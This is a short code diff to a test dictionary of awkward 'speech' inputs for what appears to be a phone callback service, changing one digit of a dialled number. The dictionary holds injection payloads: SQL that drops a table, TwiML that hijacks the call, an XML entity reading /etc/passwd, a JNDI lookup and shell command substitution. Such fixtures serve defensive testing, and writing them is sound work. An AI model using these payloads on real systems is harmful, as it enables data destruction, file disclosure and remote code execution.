@@ -46,7 +46,7 @@ ODD_SPEECH = {
     "other digits": "٠٣٠ ２３１２５８８６ ①②③ ½ Quastenflosser",
     "no language": "Quastenflosser 你好 שלום привет",
     "SQL": f"{NAME}'); DROP TABLE callback_requests; --",
-    "TwiML": f"{NAME}</Say></Gather><Dial>+493023125886</Dial><Hangup/><Say>",
+    "TwiML": f"{NAME}</Say></Gather><Dial>+493023125881</Dial><Hangup/><Say>",
     "an XML entity": '<!DOCTYPE a [<!ENTITY q SYSTEM "file:///etc/passwd">]>&q; &amp; Quastenflosser',
     "braces": "Mein Name ist {caller_name} {company} {0} {Quastenflosser",
     "a format string": "%s %n %(name)s ${jndi:ldap://quastenflosser} `id` Quastenflosser",
